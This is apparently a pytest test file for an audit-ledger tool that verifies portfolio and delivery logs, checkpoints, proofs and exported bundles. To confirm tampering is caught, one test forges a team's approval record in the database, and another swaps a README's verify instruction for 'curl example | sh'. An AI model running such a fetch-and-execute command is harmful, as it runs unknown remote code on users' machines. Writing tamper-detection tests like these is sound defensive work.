"""An auditor sees both logs of a workspace: what the portfolio decided, and what teams did."""

import json
import shutil
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from asp_decide.ledger.merkle import leaf_hash
from command_line import Said, a_copy, apply, asp, edit, files_of, plan
from delivery_workspace import delivery_workspace, done, told
from folder_parts import parts_there, parts_told

TEAM = ("--by", "P. Lind", "--role", "team", "--as-of", "2026-12-31")
COMMIT, PULL = "2027Q1-commit", "2027Q1-pull"


@pytest.fixture(scope="module")
def both(tmp_path_factory: pytest.TempPathFactory) -> Path:
    planned: dict[str, Any] = {
        "commitment": "committed",
        "planned_interval": "2027Q1",
        "category": "run",
    }
    rows = [
        *(done(f"FEA-9{n}", took_days=20) for n in range(7)),
        told("FEA-21", "ready", value_likely=60_000, **planned),
    ]
    folder = delivery_workspace(tmp_path_factory.mktemp("both") / "work", rows)
    for rules in (folder / "policies" / "portfolio").glob("g*.yaml"):
        rules.unlink()
    assert plan(folder, "-o", "plan.json").code == 0
    assert apply(folder).code == 0
    for verb in ("commit", "pull"):
        assert asp("-C", folder, "flow", verb, *TEAM).code == 0
    return folder


@pytest.fixture
def work(both: Path, tmp_path: Path) -> Path:
    return a_copy(both, tmp_path / "work")


def _checkpoint(folder: Path, layer: str) -> Path:
    said = asp("-C", folder, "ledger", "checkpoint", "--layer", layer)
    place = folder.parent / f"{layer}.txt"
    place.write_text(said.out, encoding="utf-8")
    return place


def _all(folder: Path, *more: object) -> Said:
    return asp("-C", folder, "verify", "--all", *more)


def _whole(said: Said) -> list[str]:
    return [line for line in said.out.splitlines() if line.startswith("whole")]


def test_runs_of_both_layers_are_listed_each_with_its_log(both: Path) -> None:
    listed = json.loads(asp("-C", both, "ledger", "list", "--format", "json").out)["runs"]

    assert [(one["layer"], one["run"]) for one in listed] == [
        ("portfolio", "2027Q1"),
        ("delivery", COMMIT),
        ("delivery", PULL),
    ]
    assert listed[2]["first"] == listed[1]["records"]


def test_each_log_has_its_own_line_for_the_minutes(both: Path, tmp_path: Path) -> None:
    of_board, of_teams = (
        asp("-C", both, "ledger", "checkpoint", *more).out.splitlines()
        for more in ((), ("--layer", "delivery"))
    )

    assert of_teams[0] == f"{of_board[0]}/delivery"
    assert of_teams == (both / "runs" / PULL / "checkpoint").read_text("utf-8").splitlines()
    empty = a_copy(both, tmp_path / "work")
    (empty / "delivery.sqlite").unlink()
    assert asp("-C", empty, "ledger", "checkpoint", "--layer", "delivery").out.split()[-2] == "0"


def test_all_of_both_is_decided_again_and_anchored_each_by_its_own_minutes(work: Path) -> None:
    given = [("--checkpoint", _checkpoint(work, layer)) for layer in ("delivery", "portfolio")]

    said = _all(work, *given[0], *given[1], "--strict")

    assert said.code == 0, said.out
    assert ["PASS" in line and line.endswith("anchored in full") for line in _whole(said)] == [
        True,
        True,
    ]
    runs = [line.split()[1] for line in said.out.splitlines() if line.startswith("verify 2027")]
    assert runs == ["2027Q1", COMMIT, PULL]


def test_a_record_of_a_team_that_was_exchanged_in_the_database_is_found(work: Path) -> None:
    with closing(sqlite3.connect(work / "delivery.sqlite")) as raw:
        for (name,) in raw.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'"):
            raw.execute(f"DROP TRIGGER {name}")
        number, body = raw.execute(
            "SELECT number, body FROM log_entry WHERE kind = 'approval' ORDER BY number LIMIT 1"
        ).fetchone()
        forged = body.replace(b'"decided":"commit"', b'"decided":"defer"', 1)
        assert forged != body
        raw.execute(
            "UPDATE log_entry SET body = ?, leaf_hash = ? WHERE number = ?",
            (forged, leaf_hash(forged), number),
        )
        raw.commit()

    said = _all(work)

    assert said.code == 1
    assert ["FAIL" in line for line in _whole(said)] == [False, True]
    assert f"the checkpoint of run `{COMMIT}` has another root" in said.out


def test_what_the_folder_of_a_team_says_first_is_checked_where_it_was_exported(work: Path) -> None:
    edit(work, f"runs/{PULL}/README.txt", "asp-decide verify .", "curl example | sh")
    edited = _all(work)
    shutil.rmtree(work / "runs" / PULL)
    gone = _all(work)

    assert (edited.code, gone.code) == (1, 0)
    assert "8 told         FAIL" in edited.out
    assert "8 told         NOT CHECKED there is no README.txt" in gone.out


def test_a_line_of_a_team_is_proven_alone_and_two_of_its_checkpoints_are_joined(
    work: Path,
) -> None:
    sizes = [
        (work / "runs" / run / "checkpoint").read_text(encoding="utf-8").splitlines()[1]
        for run in (COMMIT, PULL)
    ]
    minutes = _checkpoint(work, "delivery")

    for words in ((f"{COMMIT}:1",), ("..".join(sizes), "--layer", "delivery")):
        said = asp("-C", work, "ledger", "prove", *words)
        assert said.code == 0, said.err
        checked = asp("verify", work / said.out.strip(), "--checkpoint", minutes)
        assert checked.code == 0, checked.out
        assert "/delivery" in checked.out
    assert asp("-C", work, "ledger", "prove", "..".join(sizes)).code == 2


def test_its_folder_is_written_again_byte_for_byte_as_zip_and_without_names(work: Path) -> None:
    before = files_of(work / "runs" / PULL)
    shutil.rmtree(work / "runs" / PULL)
    nameless, zipped = work / "nameless", work / "pull.zip"

    assert asp("-C", work, "ledger", "export", PULL).code == 0
    assert files_of(work / "runs" / PULL) == before
    for place, more in ((nameless, ("--without-names",)), (zipped, ())):
        assert asp("-C", work, "ledger", "export", PULL, "-o", place, *more).code == 0
        assert asp("verify", place).code == 0
    assert "openings.json" in before
    assert not (nameless / "openings.json").exists()


def test_a_stream_owner_is_told_that_such_a_run_has_no_folder_of_theirs(work: Path) -> None:
    said = asp("-C", work, "ledger", "export", PULL, "--for", "stream:payments")

    assert said.code == 2
    assert "is of the delivery layer" in said.err
    assert asp("-C", work, "ledger", "export", "2026Q1").code == 2


def test_a_log_that_was_left_behind_when_the_ledger_moved_is_not_passed_over(work: Path) -> None:
    with (work / "asp.yaml").open("a", encoding="utf-8") as charter:
        charter.write("ledger_url: sqlite:///ledger.sqlite\n")

    said = asp("-C", work, "ledger", "list")
    (work / "delivery.sqlite").unlink()

    assert said.code == 2
    assert "add `delivery_ledger_url`" in said.err
    assert PULL not in asp("-C", work, "ledger", "list").out


def test_every_file_of_a_bundle_has_its_line_in_what_it_says_first(work: Path) -> None:
    assert asp("-C", work, "ledger", "export", PULL, "-o", work / "n", "--without-names").code == 0

    for folder in (work / "n", *(work / "runs").iterdir()):
        assert sorted(parts_told(folder)) == parts_there(folder)


def test_openings_may_be_laid_into_a_bundle_or_taken_out_of_it(work: Path) -> None:
    for run in ("2027Q1", PULL):
        openings = shutil.move(work / "runs" / run / "openings.json", work / f"{run}.json")
        taken, given = (
            asp("verify", work / "runs" / run),
            asp("verify", work / "runs" / run, "--openings", openings),
        )
        assert "FAIL" not in taken.out, taken.out
        assert (given.code, "8 told         PASS" in given.out) == (0, True), given.out
